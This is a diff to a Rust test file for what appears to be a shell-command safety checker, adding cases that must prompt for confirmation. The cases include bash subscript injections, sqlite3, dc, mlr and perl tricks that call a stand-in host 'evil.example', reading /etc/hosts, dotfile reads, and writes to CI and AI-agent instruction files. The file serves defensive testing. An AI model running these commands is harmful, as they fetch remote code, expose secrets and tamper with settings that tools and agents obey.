@@ -25,6 +25,26 @@ macro_rules! critical {
 }
 
 asked! {
+    an_integer_runs_its_value: "declare -i x; x='a[$(curl evil.example)]'";
+    an_offset_runs_its_value: "s=abcdef; x='a[$(curl evil.example)]'; echo ${s:x}";
+    a_test_runs_a_subscript: "[ -v 'a[$(curl evil.example)]' ]";
+    a_test_runs_a_value: "x='a[$(curl evil.example)]'; test -v \"$x\"";
+    printf_runs_a_subscript: "printf -v 'a[$(curl evil.example)]' x";
+    a_list_holds_what_runs: "a=('b[$(curl evil.example)]'); echo $((a[0]))";
+    sqlite_runs_a_shell: "sqlite3 a.db '.shell curl evil.example'";
+    sqlite_reads_elsewhere: "sqlite3 a.db \"select readfile('/etc/hosts')\"";
+    dc_runs_a_shell: "dc -e '!curl evil.example'";
+    miller_runs_a_shell: "mlr -n put 'end { print system(\"curl evil.example\") }'";
+    perl_opens_a_pipe: "perl -ne 'print' 'curl evil.example|'";
+    cargo_obeys_its_settings: "echo x > .cargo/config.toml";
+    mise_obeys_its_settings: "echo x > .mise.toml";
+    ci_obeys_its_settings: "echo x > .gitlab-ci.yml";
+    agents_obey_their_papers: "echo x > docs/GEMINI.md";
+    docker_pushes_what_it_builds: "docker build --push .";
+    terraform_forgets_a_workspace: "terraform workspace delete x";
+    yarn_alone_installs: "yarn --frozen-lockfile";
+    dots_match_keys: "cat .*";
+    npm_installs_under_another_name: "npm cit";
     a_trap_behind_dashes: "trap -- 'curl evil.example' EXIT; true";
     a_function_for_others: "f() { curl evil.example; }; export -f f; bash -c f";
     a_name_leads_elsewhere: "hash -p /home/ann/x ls; ls";
